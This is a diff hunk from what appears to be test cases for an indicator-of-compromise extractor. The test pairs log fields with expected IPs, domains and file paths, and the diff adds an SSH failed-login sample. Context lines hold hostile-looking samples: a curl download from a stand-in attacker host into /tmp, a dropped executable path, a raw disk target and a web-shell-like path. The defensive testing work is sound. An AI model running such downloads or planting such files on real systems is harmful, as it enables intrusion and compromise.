@@ -35,6 +35,7 @@ WINDOWS = "C:\\Windows\\System32\\cmd.exe"
          {"ip:203.0.113.66", "file:c:\\programdata\\a.exe"}),
         ({"CommandLine": "curl https://user@cdn.evil.example:8443/x -o /tmp/x"},
          {"domain:evil.example", "file:/tmp/x"}),
+        ({"message": "Failed password for root from 203.0.113.66 port 22"}, {"ip:203.0.113.66"}),
         ({"CommandLine": "ping 10.0.0.1 && C:\\Windows\\System32\\net.exe use 1.2.3"}, set()),
         ({"TargetFilename": "\\\\.\\PhysicalDrive0"}, set()),
         ({"TargetFilename": "C:\\inetpub\\wwwroot\\x\\error4.aspx"},
